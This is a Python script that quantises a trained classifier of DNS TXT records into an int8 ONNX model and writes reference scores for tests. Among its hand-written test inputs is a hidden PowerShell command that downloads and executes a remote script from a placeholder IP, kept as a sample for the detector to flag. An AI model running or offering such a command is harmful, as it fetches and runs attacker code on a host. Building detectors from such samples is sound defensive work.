"""From a trained network to `models/<name>/`: an int8 ONNX file, the table of its embedding, config, reference vectors.

The graph is written node by node, of what ONNX Runtime does fastest: a convolution is a product of two matrices over
blocks of bytes side by side, and its 8-bit output is cut at zero, which is its activation. The embedding is no node:
looking up eight bytes per id took a third of the network's time there, and takes a copy in the program.

Weights have 7 bits, so that sums overflow nowhere on hosts without VNNI. Slope and offset of the calibration are
folded into the last layer: the file itself is calibrated.
"""

import json
import random
from pathlib import Path

import numpy as np
import onnx
import onnxruntime
import torch
from onnx import TensorProto, helper, numpy_helper

import corpus
from net import CONVOLUTIONS, EMBEDDING
from reference import BUCKETS, PAD, STRIDE, VOCABULARY, WINDOW, bucket, normalise, windows
from texts.disguises import disguised
from texts.ordinary import benign
from texts.payloads import suspicious

THRESHOLD = 0.5
OPSET = 17
ZERO = 128  # the byte that means zero in the table of the embedding
MAX_WEIGHT = 63  # of 7 bits


def embedding_table(net):
    """The embedding in bytes, `[ids, EMBEDDING]`, and what a step means."""
    weights = net.table().detach().numpy()
    step = np.abs(weights).max() / 127
    return np.clip(np.round(weights / step) + ZERO, 0, 255).astype(np.uint8), float(step)


@torch.no_grad()
def highest_activations(net, table, step, rows):
    """What each convolution returns at most, on generated and on real rows, with the embedding in bytes."""
    pool = [ids for ids, _ in corpus.synthetic(5000, 77) + corpus.real(rows, 1500, 78)]
    highest = [0.0] * len(CONVOLUTIONS)
    for length in BUCKETS:
        part = [ids for ids in pool if bucket(len(ids)) == length]
        for start in range(0, len(part), 64):
            x = torch.from_numpy((table[padded(part[start : start + 64], length)].astype(np.float32) - ZERO) * step)
            x = x.transpose(1, 2)
            for number, (convolution, (kernel, stride, _)) in enumerate(zip(net.convolutions, CONVOLUTIONS)):
                x = torch.relu(convolution(torch.nn.functional.pad(x, (0, kernel - stride))))
                highest[number] = max(highest[number], float(x.max()))
    return highest


class Graph:
    """An ONNX graph that grows node by node."""

    def __init__(self):
        self.nodes, self.constants = [], {}

    def constant(self, name, value, kind):
        self.constants[name] = numpy_helper.from_array(np.ascontiguousarray(value, kind), name)
        return name

    def node(self, operator, inputs, name, **attributes):
        self.nodes.append(helper.make_node(operator, inputs, [name], name, **attributes))
        return name

    def scale(self, name, step, zero):
        return self.constant(f"{name}_step", step, np.float32), self.constant(f"{name}_zero", zero, np.uint8)

    def windows(self, x, name, zero, channels, kernel, stride):
        """What each place of a convolution sees, side by side: `[rows, places, kernel * channels]`."""
        shape = self.constant(f"{name}_shape", [0, -1, stride * channels], np.int64)
        blocks = self.node("Reshape", [x, shape], f"{name}_blocks")
        after = -(-(kernel - stride) // stride)
        if not after:
            return blocks
        pads = self.constant(f"{name}_pads", [0, 0, 0, 0, after, 0], np.int64)
        padded = self.node("Pad", [blocks, pads, self.constant(f"{name}_padding", zero, np.uint8)], f"{name}_padded")
        axes, parts = self.constant("axes", [1, 2], np.int64), [blocks]
        for number in range(1, after + 1):
            width = min(stride, kernel - number * stride) * channels
            start = self.constant(f"{name}_start_{number}", [number, 0], np.int64)
            end = number - after if number < after else np.iinfo(np.int64).max
            end = self.constant(f"{name}_end_{number}", [end, width], np.int64)
            parts.append(self.node("Slice", [padded, start, end, axes], f"{name}_after_{number}"))
        return self.node("Concat", parts, f"{name}_windows", axis=2)

    def model(self):
        return helper.make_model(
            helper.make_graph(
                self.nodes,
                "dnstxtscore",
                [helper.make_tensor_value_info("embedded", TensorProto.UINT8, ["rows", "length", EMBEDDING])],
                [helper.make_tensor_value_info("probability", TensorProto.FLOAT, ["rows", 1])],
                list(self.constants.values()),
            ),
            opset_imports=[helper.make_opsetid("", OPSET)],
            ir_version=9,
            producer_name="dnstxtscore models/train",
        )


def quantised(net, slope, offset, rows):
    """The table of the embedding, and the model that reads its bytes."""
    table, step = embedding_table(net)
    graph = Graph()
    x, zero, channels, quantised_as = "embedded", ZERO, EMBEDDING, graph.scale("embedded", step, ZERO)
    steps = [highest / 255 for highest in highest_activations(net, table, step, rows)]
    for number, (convolution, (kernel, stride, width)) in enumerate(zip(net.convolutions, CONVOLUTIONS), 1):
        name = f"convolution_{number}"
        x = graph.windows(x, name, zero, channels, kernel, stride)
        weights = convolution.weight.detach().numpy().transpose(2, 1, 0).reshape(kernel * channels, width)
        weight_steps = np.maximum(np.abs(weights).max(0), 1e-12) / MAX_WEIGHT
        output_as = graph.scale(name, steps[number - 1], 0)
        inputs = [
            x,
            *quantised_as,
            graph.constant(f"{name}_weights", np.round(weights / weight_steps), np.int8),
            graph.constant(f"{name}_weight_steps", weight_steps, np.float32),
            graph.constant(f"{name}_weight_zeros", np.zeros(width), np.int8),
            *output_as,
        ]
        x, zero, channels, quantised_as = graph.node("QLinearMatMul", inputs, name), 0, width, output_as
    x = graph.node("DequantizeLinear", [x, *quantised_as], "places")
    x = graph.node("ReduceMax", [x], "highest", axes=[1], keepdims=0)
    layer = lambda name: (getattr(net, name).weight.detach().numpy().T, getattr(net, name).bias.detach().numpy())
    weights, bias = layer("hidden")
    dense = lambda x, w, b, name: graph.node(
        "Gemm", [x, graph.constant(f"{name}_w", w, np.float32), graph.constant(f"{name}_b", b, np.float32)], name
    )
    x = graph.node("Relu", [dense(x, weights, bias, "hidden")], "activated")
    weights, bias = layer("out")
    graph.node("Sigmoid", [dense(x, weights * slope, bias * slope + offset, "out")], "probability")
    model = graph.model()
    onnx.checker.check_model(model, full_check=True)
    return table, model


def padded(parts, length):
    ids = np.full((len(parts), length), PAD, np.int32)
    for row, one in enumerate(parts):
        ids[row, : len(one)] = one
    return ids


class Exported:
    """The file as a program runs it: one thread."""

    def __init__(self, folder):
        options = onnxruntime.SessionOptions()
        options.intra_op_num_threads = 1
        path = str(Path(folder) / "model.onnx")
        self.session = onnxruntime.InferenceSession(path, options, providers=["CPUExecutionProvider"])
        self.table = np.fromfile(Path(folder) / "embedding.bin", np.uint8).reshape(VOCABULARY, EMBEDDING)

    def run(self, ids):
        return self.session.run(["probability"], {"embedded": self.table[ids]})[0][:, 0]

    def scores(self, values):
        """The probability of each normalised value."""
        flat = sorted(
            ((v, ids) for v, value in enumerate(values) for ids in windows(value)), key=lambda x: bucket(len(x[1]))
        )
        out = np.zeros(len(values))
        for length in BUCKETS:
            part = [x for x in flat if bucket(len(x[1])) == length]
            for i in range(0, len(part), 64):
                got = self.run(padded([ids for _, ids in part[i : i + 64]], length))
                for (v, _), one in zip(part[i : i + 64], got):
                    out[v] = max(out[v], one)
        return out


BY_HAND = (
    "v=spf1 -all",
    "TXT 11 v=spf1 -all",
    "TXT 5 v=spf TXT 6 1 -all",
    "TXT 12 v=spf1 -all",
    '"v=DKIM1; k=rsa; p=" "MIGfMA0"',
    '"a" payload',
    r"caf\195\169",
    r"TXT 5 caf\xc3\xa9",
    "  spaced  ",
    "a",
    r"\"quoted\" \\ \256",
    "x" * 30,
    "x" * 31,
    "x" * 510,
    "x" * 511,
    "y" * 3000,
    "TXT 0  TXT 3 abc",
    "TXT 0",
    '""',
    '"" ""',
    'TXT 2 ""',
    "TXT 1  ",
    "v=spf1 -all \t\t \t \t\t",
    "     v=spf1 -all",
    " \t \t\t  \t",
    '"v=spf1 -all"  ""',
    "TXT 0  SPF 11 v=spf1 -all",
    "TXT 011 v=spf1 -all",
    r"v=s\112f1 -all",
    "v=spf1 -all \r\n",
    "naïve домен 域名",
    "whoami",
    "powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')",
)


def reference_rows(exported):
    """Texts of our own with what this implementation makes of them: for `tests/reference.rs`."""
    r = random.Random(2026)
    cells = [text.encode() for text in BY_HAND]
    cells += (
        [benign(r)[:1500] for _ in range(120)]
        + [suspicious(r)[0][:1500] for _ in range(70)]
        + [disguised(r)[0][:1500] for _ in range(60)]
    )
    values = [normalise(cell) for cell in cells]
    for cell, value, probability in zip(cells, values, exported.scores(values)):
        try:
            shown = {"text": cell.decode()}
        except UnicodeDecodeError:
            shown = {"hex": cell.hex()}
        yield {**shown, "windows": windows(value), "score": round(float(probability), 7)}


def write(folder, net, slope, offset, rows):
    folder.mkdir(parents=True, exist_ok=True)
    table, model = quantised(net, slope, offset, rows)
    onnx.save(model, folder / "model.onnx")
    table.tofile(folder / "embedding.bin")
    config = {
        "name": folder.name,
        "window": WINDOW,
        "stride": STRIDE,
        "padding": PAD,
        "vocabulary": VOCABULARY,
        "embedding": EMBEDDING,
        "buckets": list(BUCKETS),
        "threshold": THRESHOLD,
        "input": "embedded",
        "output": "probability",
    }
    (folder / "config.json").write_text(json.dumps(config, indent=2) + "\n")
    with open(folder / "reference.jsonl", "w") as out:
        for row in reference_rows(Exported(folder)):
            out.write(json.dumps(row, separators=(",", ":")) + "\n")
    print(f"{folder}: {sum((folder / one).stat().st_size for one in ('model.onnx', 'embedding.bin')):,} bytes")
